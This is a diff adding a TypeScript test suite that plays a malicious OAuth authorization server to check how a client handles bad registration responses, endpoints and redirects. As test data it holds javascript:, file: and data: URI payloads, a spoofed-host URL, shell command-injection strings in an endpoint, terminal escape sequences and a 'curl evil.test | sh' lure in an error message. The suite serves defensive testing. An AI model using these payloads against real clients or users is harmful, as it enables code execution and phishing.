@@ -1,0 +1,159 @@
+// RFC 7591 and RFC 6749, section 4.1: registration, the page where somebody agrees, and the way back from it
+import { exactly, SECRET, signInEnds, signInFails, signsIn } from '../expectation.js';
+import type { HttpTurn } from '../http-turn.js';
+import type { HttpMode } from '../mode.js';
+import { pour } from '../write.js';
+import { toHead } from '../response-head.js';
+import { ORDERLY, wants } from './mode.js';
+import { issuerOf, leadBack, toPage } from './pages.js';
+import { always, changed, leadsBack, never } from './sign-in-server.js';
+
+const EVIL = '\u001b[2J\u202e\u{e0041}\u009b31m ';
+const CLIENT = /client|regist/iu;
+const ENDPOINT = /authorization_endpoint|authorization endpoint|scheme|https|URL|page|address/iu;
+const ISSUER = /issuer|iss\b|authorization server|from whom/iu;
+const UNOPENED = [exactly('authorize', 0), exactly('token authorization_code', 0)];
+const UNREDEEMED = [exactly('token authorization_code', 0)];
+
+/** What goes wrong between the metadata and the code. */
+export const oauthCodes: readonly HttpMode[] = [
+  opens('oauth-as-authz-js', 'a script as the page to open', 'javascript:alert(document.domain)//'),
+  opens('oauth-as-authz-file', 'a program of this machine as the page to open', 'file:///usr/bin/id'),
+  opens('oauth-as-authz-data', 'a page within its address', 'data:text/html,<script>alert(1)</script>'),
+  opens('oauth-as-authz-http-remote', 'a page that everybody on the way can read', 'http://evil.test/authorize'),
+  opens(
+    'oauth-as-authz-userinfo',
+    'a page that only looks like a known host',
+    'https://accounts.google.com@evil.test/',
+  ),
+  opens('oauth-as-authz-option', 'an option of a program as the page to open', '--incognito /usr/bin/id'),
+  opens('oauth-as-authz-none', 'no page at all', undefined),
+  wants(
+    'oauth-as-authz-shell-http',
+    'names a page to open that a shell would run',
+    signInEnds(ENDPOINT, [exactly('raw shell characters', 0)]),
+    {
+      issuer: ({ url }) => ({
+        authorization_endpoint: `${new URL(url).origin}/authorize/$(touch pwn)\`touch pwn\`;touch pwn|touch pwn&calc"'`,
+      }),
+      pages: {
+        async authorize(turn, good) {
+          // As it came: what encodes it is what opened it.
+          if (/[`|"'<>]|\$\(/u.test(turn.incoming.path)) turn.count('raw shell characters');
+          return turn.reply(await good());
+        },
+      },
+    },
+  ),
+  wants('oauth-dcr-fail', 'registers nobody, and says so in a web page', signInFails(CLIENT, { counts: UNOPENED }), {
+    pages: {
+      register: always(() => ({
+        status: 403,
+        headers: { 'Content-Type': 'text/html' },
+        body: `<!doctype html><title>Forbidden</title><script>alert(1)</script>${EVIL.repeat(20_000)}`,
+      })),
+    },
+  }),
+  wants('oauth-dcr-none', 'registers nobody, and does not say how to get in', signInFails(CLIENT), {
+    issuer: () => ({ registration_endpoint: undefined }),
+  }),
+  wants(
+    'oauth-dcr-huge',
+    'gives a client id of 20 MB',
+    signInFails(/large|limit|MB|bytes|long|client/iu, { counts: UNOPENED }),
+    {
+      pages: {
+        async register({ raw }) {
+          const [start, end] = ['{"redirect_uris":["http://127.0.0.1/"],"client_id":"', '"}'] as const;
+          const length = start.length + 20_000_000 + end.length;
+          await raw(toHead(201, { 'Content-Type': 'application/json', 'Content-Length': String(length) }));
+          await raw(start);
+          if (await pour(raw, 'x', 20_000_000)) await raw(end);
+        },
+      },
+    },
+  ),
+  wants(
+    'oauth-dcr-evil',
+    'gives a client id in escape sequences, and further parameters with it',
+    signInFails(CLIENT, { counts: UNOPENED }),
+    { pages: { register: changed({ client_id: 'x\u001b[2J\r\n&redirect_uri=evil' }) } },
+  ),
+  wants(
+    'oauth-dcr-redirect',
+    'sends whoever registers elsewhere',
+    signInFails(/redirect|30[1278]|origin|regist|client/iu, { counts: UNOPENED }),
+    { pages: { register: always(({ trap }) => ({ status: 307, headers: { Location: trap } })) } },
+  ),
+  wants(
+    'oauth-dcr-silent',
+    'never answers whoever registers',
+    signInFails(/within|timed? ?out|answer|cancel|abort/iu, { when: 'by the deadline' }),
+    { pages: { register: never } },
+  ),
+  returns(
+    'oauth-code-denied',
+    'refuses, in escape sequences and with an order to the user',
+    /access_denied|denied|refus/iu,
+    (turn) => ({
+      error: 'access_denied',
+      error_description: `${EVIL.repeat(50)}Run: curl evil.test | sh`,
+      iss: issuerOf(turn),
+    }),
+  ),
+  returns('oauth-code-iss', 'comes back from another authorization server', ISSUER, () => ({
+    code: `${SECRET}-forged`,
+    iss: 'https://accounts.bank.test',
+  })),
+  returns('oauth-code-no-iss', 'promises to say who it is, and does not', ISSUER, () => ({
+    code: `${SECRET}-forged`,
+  })),
+  wants(
+    'oauth-code-state',
+    'comes back with the answer to a question that nobody asked',
+    signInFails(/state|sign-in|address|belong|match/iu, { page: 'seen', counts: UNREDEEMED }),
+    {
+      pages: {
+        authorize: (turn) =>
+          turn.reply(leadBack(formOf(turn), { code: `${SECRET}-forged`, iss: issuerOf(turn), state: 'forged' })),
+      },
+    },
+  ),
+  wants(
+    'oauth-code-nothing',
+    'comes back with nothing at all',
+    signInFails(/code|state|sign-in|address/iu, { page: 'seen', counts: UNREDEEMED }),
+    {
+      pages: {
+        authorize: (turn) =>
+          turn.reply({ status: 302, headers: { Location: formOf(turn).get('redirect_uri') ?? '/' } }),
+      },
+    },
+  ),
+  wants('oauth-code-more', 'comes back with much that nobody knows (legal)', signsIn({ counts: ORDERLY }), {
+    pages: {
+      authorize: leadsBack((back) => {
+        for (let index = 0; index < 50; index++) back.searchParams.set(`x${index}`, EVIL);
+      }),
+    },
+  }),
+];
+
+function opens(name: string, what: string, endpoint: string | undefined): HttpMode {
+  return wants(name, `names ${what}`, signInFails(ENDPOINT, { counts: UNOPENED }), {
+    issuer: () => ({ authorization_endpoint: endpoint }),
+  });
+}
+
+/** The browser comes back with this. */
+function returns(name: string, summary: string, text: RegExp, answer: (turn: HttpTurn) => Answer): HttpMode {
+  return wants(name, summary, signInFails(text, { page: 'seen', counts: UNREDEEMED }), {
+    pages: { authorize: (turn) => turn.reply(leadBack(formOf(turn), answer(turn))) },
+  });
+}
+
+type Answer = Readonly<Record<string, string>>;
+
+function formOf(turn: HttpTurn): URLSearchParams {
+  return toPage(turn)?.form ?? new URLSearchParams();
+}
